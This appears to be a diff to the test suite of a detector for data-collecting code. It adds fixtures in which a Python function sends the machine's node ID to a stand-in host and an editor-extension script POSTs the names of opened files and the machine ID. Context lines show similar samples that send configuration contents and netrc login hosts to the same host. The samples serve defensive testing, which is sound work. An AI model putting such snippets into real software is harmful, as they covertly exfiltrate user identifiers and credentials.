@@ -43,6 +43,11 @@ SEEN = {
         READ + PARSER + "said = Report()\nsaid.context = dict(c['default'])\n"
         "requests.post('https://a.example/', json=asdict(said))\n",
     ),
+    "the number of a machine": (
+        "reports usage",
+        "import uuid, requests\ndef check():\n"
+        "    requests.get('https://a.example/latest?id=' + str(uuid.getnode()))\n",
+    ),
     "every login of a file": (
         "collects and sends",
         READ + "requests.post('https://a.example/', json=netrc.netrc().hosts)\n",
@@ -72,3 +77,14 @@ def test_spelling_is_seen(case: str) -> None:
 def test_ordinary_code_says_nothing(case: str) -> None:
     found = examine(ORDINARY[case].encode(), "python", "when called", path="a/b").found
     assert not [f for f in found if f.strength >= 0.4]
+
+
+def test_the_number_of_an_editor() -> None:
+    text = (
+        "const vscode = require('vscode'); const seen = [];\n"
+        "const note = (document) => seen.push(document.fileName);\n"
+        "const body = () => JSON.stringify({ id: vscode.env.machineId, seen });\n"
+        "const tell = () => fetch('https://a.example/b', { method: 'POST', body: body() });\n"
+    )
+    found = examine(text.encode(), "javascript", "when called", path="a/b").found
+    assert [f for f in found if f.kind == "reports usage" and f.strength >= 0.5]
